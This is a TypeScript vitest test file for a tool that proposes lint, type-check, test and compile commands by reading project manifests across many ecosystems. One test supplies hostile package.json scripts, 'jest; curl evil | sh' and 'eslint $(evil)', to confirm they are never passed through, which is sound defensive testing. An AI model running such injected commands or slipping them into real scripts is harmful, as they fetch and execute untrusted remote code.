import { describe, expect, it } from 'vitest';
import {
  compilerChecks,
  manifestPaths,
  proposeChecks,
  proposeFormatters,
} from '../../../src/validation/index.ts';
import { CheckConfig } from '../../../src/domain/index.ts';

/** Proposals for a repository of these files, as `name: command`. */
function proposed(files: Readonly<Record<string, string>>): string[] {
  const proposals = proposeChecks({ paths: Object.keys(files), texts: new Map(Object.entries(files)) });
  for (const { check } of proposals) CheckConfig.parse(check);
  return proposals.map(({ check }) => `${check.name}: ${check.run.join(' ')}`);
}

const json = (value: unknown) => JSON.stringify(value);

describe('checks are proposed by looking, never run', () => {
  it('for JavaScript: the scripts, with machine-readable output where one tool is called', () => {
    const scripts = {
      lint: 'eslint . --cache',
      typecheck: 'tsc -b && tsc -p x',
      test: 'vitest run --coverage',
      build: 'vite build',
    };
    expect(proposed({ 'package.json': json({ scripts }), 'pnpm-lock.yaml': '' })).toEqual([
      'lint: eslint . --format json',
      'types: pnpm run --silent typecheck',
      'tests: vitest run --coverage --reporter=default --reporter=json',
    ]);
  });

  it('not for the test that npm init writes', () => {
    const scripts = { test: 'echo "Error: no test specified" && exit 1' };
    expect(proposed({ 'package.json': json({ scripts }) })).toEqual([]);
  });

  it('for TypeScript without a script, and with the formatter in front', () => {
    const manifest = { devDependencies: { typescript: '5', prettier: '3' } };
    const facts = { 'package.json': json(manifest), 'tsconfig.json': '{}' };
    const [types] = proposeChecks({ paths: Object.keys(facts), texts: new Map(Object.entries(facts)) });
    expect(types?.check.run).toEqual(['tsc', '--noEmit', '--pretty', 'false']);
    expect(types?.check.fix).toEqual(['prettier', '--write', '--ignore-unknown', '{files}']);
  });

  it('for a monorepo: scripts of the root, and of packages only what the root lacks', () => {
    const files = {
      'package.json': json({ scripts: { lint: 'turbo lint' } }),
      'packages/a/package.json': json({ scripts: { lint: 'eslint .', test: 'jest' } }),
      'packages/b/package.json': json({ scripts: { test: 'node --test' } }),
      'packages/b/test/fixtures/package.json': json({ scripts: { test: 'never' } }),
    };
    expect(proposed(files)).toEqual([
      'lint: npm run --silent lint',
      'tests packages/a: jest --json',
      'tests packages/b: npm run --silent test',
    ]);
  });

  it('for Python: what is configured, started in the way of the project', () => {
    const pyproject =
      '[tool.ruff]\n[tool.ruff.format]\n[tool.mypy]\nfiles = ["app"]\n[tool.pytest.ini_options]\n';
    expect(proposed({ 'pyproject.toml': pyproject, 'app/a.py': '', 'tests/test_a.py': '' })).toEqual([
      'lint: ruff check --output-format=json --no-cache .',
      'types: mypy',
      'tests: python -m pytest -p no:cacheprovider',
    ]);
    expect(proposed({ 'requirements.txt': 'flake8==7\n', 'uv.lock': '', 'tests/test_a.py': '' })).toEqual([
      'lint: uv run --offline --no-sync flake8',
      'tests: uv run --offline --no-sync python -m pytest -p no:cacheprovider',
    ]);
  });

  it.each([
    [{ 'go.mod': 'module a' }, ['lint: go vet ./...', 'tests: go test -json ./...']],
    [
      { 'go.mod': 'module a', '.golangci.yml': '' },
      ['lint: golangci-lint run', 'tests: go test -json ./...'],
    ],
    [
      { 'Cargo.toml': '[workspace]', 'crates/a/Cargo.toml': '' },
      [
        'compile: cargo check --offline --workspace --all-targets --message-format=json',
        'tests: cargo test --offline --workspace --no-fail-fast',
      ],
    ],
    [{ 'pom.xml': '', mvnw: '' }, ['tests: ./mvnw --offline --batch-mode test']],
    [{ 'build.gradle.kts': '' }, ['tests: gradle --offline --console=plain test']],
    [
      { 'a.sln': '', 'src/a.csproj': '' },
      [
        'compile: dotnet build --no-restore --nologo -consoleLoggerParameters:NoSummary',
        'tests: dotnet test --no-restore --nologo',
      ],
    ],
    [
      { Gemfile: "gem 'rspec'", '.rubocop.yml': '' },
      ['lint: bundle exec rubocop --format emacs', 'tests: bundle exec rspec'],
    ],
    [{ Gemfile: '', Rakefile: '' }, ['tests: bundle exec rake test']],
    [{ Gemfile: '', Rakefile: '', 'bin/rails': '' }, ['tests: bin/rails test']],
    [
      { 'composer.json': '{}', 'phpunit.xml': '', 'phpstan.neon': '' },
      [
        'types: vendor/bin/phpstan analyse --no-progress --error-format=github',
        'tests: vendor/bin/phpunit --log-junit patchwright-junit.xml',
      ],
    ],
    [{ 'mix.exs': '' }, ['tests: mix test']],
    [{ Makefile: 'lint:\n\tx\ntest: build\n\tx\nx := 1\n' }, ['lint: make lint', 'tests: make test']],
    [
      { 'CMakeLists.txt': 'project(a)\nif(A_TEST)\n  enable_testing()\nendif()\n', Makefile: 'test:\n' },
      ['tests: ctest --test-dir patchwright-build --no-tests=error --output-on-failure'],
    ],
    [
      { 'c/CMakeLists.txt': 'include( CTest )\n', 'c/tests/CMakeLists.txt': 'enable_testing()\n' },
      ['tests c: ctest --test-dir patchwright-build --no-tests=error --output-on-failure'],
    ],
    [{ 'CMakeLists.txt': '# enable_testing()\n', Makefile: 'check:\n' }, ['tests: make check']],
    [{ Makefile: 'test:\n', 'go.mod': '' }, ['lint: go vet ./...', 'tests: go test -json ./...']],
    [{ 'README.md': '' }, []],
  ] as const)('%j', (files, wanted) => {
    expect(proposed(files as Readonly<Record<string, string>>)).toEqual(wanted);
  });

  it('names are unique when two ecosystems share a folder', () => {
    const names = proposeChecks({
      paths: ['package.json', 'go.mod'],
      texts: new Map([['package.json', json({ scripts: { test: 'mocha && x' } })]]),
    }).map(({ check }) => check.name);
    expect(new Set(names).size).toBe(names.length);
  });

  it('hostile manifests propose nothing and break nothing', () => {
    for (const text of [
      '',
      '{',
      '[]',
      'null',
      '{"scripts": 5}',
      '{"scripts": {"test": {}}}',
      '{"dependencies": []}',
    ]) {
      expect(proposed({ 'package.json': text })).toEqual([]);
    }
    // A script's text never becomes more than words of one command.
    const scripts = { test: 'jest; curl evil | sh', lint: 'eslint $(evil)' };
    expect(proposed({ 'package.json': json({ scripts }) })).toEqual([
      'lint: npm run --silent lint',
      'tests: npm run --silent test',
    ]);
  });

  it('reads only manifests', () => {
    expect(
      manifestPaths(['package.json', 'src/a.ts', 'node_modules/a/package.json', 'a/pyproject.toml']),
    ).toEqual(['package.json', 'a/pyproject.toml']);
  });
});

describe('what compiles a patch that no test can be run on', () => {
  const ways = (files: Readonly<Record<string, string>>) => {
    const facts = { paths: Object.keys(files), texts: new Map(Object.entries(files)) };
    return compilerChecks(facts, proposeChecks(facts)).map((checks) =>
      checks.map((check) => {
        CheckConfig.parse(check);
        expect([check.fix, check.paths?.length]).toEqual([undefined, 1]);
        return check.run.join(' ');
      }),
    );
  };

  it.each<[string, Readonly<Record<string, string>>, string[][]]>([
    ['Go', { 'go.mod': '' }, [['go vet ./...']]],
    [
      'Rust, also without what only tests need',
      { 'Cargo.toml': '' },
      [
        [
          'cargo check --offline --workspace --all-targets --message-format=json',
          'cargo check --offline --workspace --message-format=json',
        ],
      ],
    ],
    [
      'Maven, with its wrapper and without',
      { 'pom.xml': '', mvnw: '' },
      [
        [
          './mvnw --offline --batch-mode test-compile',
          'mvn --offline --batch-mode test-compile',
          './mvnw --offline --batch-mode compile',
          'mvn --offline --batch-mode compile',
        ],
      ],
    ],
    [
      'Gradle',
      { 'build.gradle.kts': '' },
      [['gradle --offline --console=plain testClasses', 'gradle --offline --console=plain classes']],
    ],
    [
      'TypeScript',
      { 'package.json': json({ devDependencies: { typescript: '5', prettier: '3' } }), 'tsconfig.json': '' },
      [['tsc --noEmit --pretty false']],
    ],
    ['nothing else', { 'package.json': json({ scripts: { lint: 'eslint .', test: 'jest' } }) }, []],
  ])('for %s', (_, files, wanted) => {
    expect(ways(files)).toEqual(wanted);
  });
});

describe('what no configuration may say is not proposed either, and ends no run:', () => {
  const scripts = (rest: string) => ({
    'package.json': json({
      scripts: { test: `vitest ${rest}`, typecheck: `tsc ${rest}`, lint: `eslint ${rest}` },
    }),
  });
  const manifests = ['pom.xml', 'go.mod', 'Cargo.toml', '.formatter.exs', 'build.gradle'];
  it.each<[string, Record<string, string>]>([
    ['a script with an endless word', scripts('x'.repeat(5000))],
    ['a script of hundreds of words', scripts('a '.repeat(300))],
    ['a script with a NUL', scripts('a\u0000b')],
    ['a folder with a backslash', Object.fromEntries(manifests.map((name) => [`a\\b/${name}`, '[package]']))],
    [
      'a folder deeper than paths are',
      Object.fromEntries(manifests.map((name) => [`${'d/'.repeat(600)}${name}`, ''])),
    ],
  ])('%s', (_, files) => {
    const other = { 'tools/pyproject.toml': '[tool.mypy]\n', 'tools/.formatter.exs': '[]' };
    const all = { ...files, ...other };
    const facts = { paths: Object.keys(all), texts: new Map(Object.entries(all)) };
    const found = [
      ...proposeChecks(facts).map(({ check }) => check),
      ...compilerChecks(facts, proposeChecks(facts)).flat(),
    ];
    for (const check of found) expect(() => CheckConfig.parse(check)).not.toThrow();
    expect(found.map(({ name }) => name)).toEqual(expect.arrayContaining(['types tools']));
    expect(proposeFormatters(facts).map(({ cwd }) => cwd)).toEqual(['tools']);
  });
});
